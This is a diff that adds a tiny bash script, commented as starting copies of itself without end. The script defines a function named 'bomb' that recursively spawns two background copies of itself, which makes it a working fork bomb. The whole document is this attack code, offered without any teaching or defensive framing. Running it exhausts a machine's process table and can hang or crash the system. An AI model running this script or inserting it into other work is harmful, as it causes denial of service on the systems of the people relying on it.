@@ -1,0 +1,4 @@
+#!/usr/bin/env bash
+# Starts copies of itself without end.
+bomb() { bomb | bomb & }
+bomb
